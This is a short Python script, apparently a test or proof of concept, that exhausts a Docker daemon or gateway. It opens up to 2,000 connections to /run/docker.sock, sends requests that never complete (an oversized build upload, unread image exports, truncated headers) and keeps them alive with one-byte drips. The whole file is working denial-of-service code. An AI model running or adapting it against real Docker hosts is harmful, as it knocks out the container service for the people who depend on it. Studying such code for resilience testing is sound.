# Every connection that the gateway takes is held, with requests that never end, and by answers that nobody reads.
import os, socket, threading, time
held = []
def hold():
    while len(held) < 2_000:
        try:
            link = socket.socket(socket.AF_UNIX)
            link.settimeout(1)
            link.connect("/run/docker.sock")
            number = len(held)
            if number % 3 == 0:
                link.sendall(b"POST /build HTTP/1.1\r\nHost: d\r\nContent-Type: application/x-tar\r\nContent-Length: 900000000\r\n\r\nx")
            elif number % 3 == 1:
                link.sendall(b"GET /images/busybox/get HTTP/1.1\r\nHost: d\r\n\r\n")
            else:
                link.sendall(b"GET /containers/json HTTP/1.1\r\nHost: d\r\nX-")
            held.append(link)
        except OSError:
            time.sleep(0.05)
def drip():
    while True:
        for link in list(held):
            try:
                link.send(b"a")
            except OSError:
                pass
        time.sleep(0.5)
for work in (hold, drip):
    threading.Thread(target=work, daemon=True).start()
time.sleep(3)
print("holds", len(held) > 200)
